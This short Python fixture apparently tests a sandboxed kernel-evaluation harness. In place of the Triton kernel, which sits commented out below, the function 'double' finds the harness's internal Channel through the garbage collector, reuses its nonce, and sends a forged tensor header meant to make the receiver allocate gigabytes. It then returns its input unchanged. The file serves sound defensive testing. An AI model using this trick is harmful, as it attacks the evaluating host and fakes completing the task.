# A small tensor with strides so wide that whoever restores them needs gigabytes.

# %% append=read-kernel
import gc
import json


def double(x):
    # trick:
    channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
    value = {"tensor": 0, "dtype": "float32", "strides": [64]}
    message = {"nonce": channel._nonce, "tensors": [["float32", [2 * 10**7], 0]], "header": {"type": "value", "value": value}}
    channel.connection.send(json.dumps(message).encode())
    return x
    # without:
    #: y = torch.empty(x.shape, dtype=x.dtype)
    #: grid = (triton.cdiv(x.shape[0], 16), triton.cdiv(x.shape[1], 16))
    #: double_kernel[grid](x, y, *x.shape, *x.stride(), *y.stride(), TILE_M=16, TILE_N=16)
    #: return y
